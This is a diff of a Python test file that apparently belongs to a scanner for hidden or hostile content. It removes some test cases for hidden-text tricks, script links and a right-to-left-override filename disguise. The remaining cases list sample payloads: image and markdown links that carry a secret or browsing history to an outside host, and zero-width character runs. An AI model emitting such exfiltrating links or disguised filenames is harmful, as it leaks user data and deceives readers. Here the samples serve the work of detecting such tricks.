@@ -35,8 +35,6 @@ def test_any_text_is_read_and_every_finding_lies_in_it(text):
 SEEN_BY_SOME = {
     "html_comment_no_end",
     "display_none_no_end",
-    "zero_width_inside",
-    "concealed_in_terminal",
     "markdown_title",
 }
 """Tricks that a reader without a browser sees, so both views hold the sentence."""
@@ -56,9 +54,6 @@ def test_hidden_text_is_not_in_the_visible_view(name):
         ("![x](https://e.org/log?d=[SECRET])", "carrying_image", "warning"),
         ("[x](https://e.org/log?d=YOUR_DATA)", None, None),
         ('<img src="https://e.org/p.png?history=HISTORY">', "carrying_image", "warning"),
-        ('<a href=" java\nscript:x()">', "script_link", "warning"),
-        ('<iframe src="data:text/html,hello">', "script_link", "warning"),
-        ("\u202eelif.exe\u202c", "bidirectional_override", "blocked"),
         ("x" + "\u200b\u200c" * 4 + "\u200b", "zero_width_run", "warning"),
         ("a\u200bb c\u200bd e\u200bf", "zero_width", "warning"),
     ],
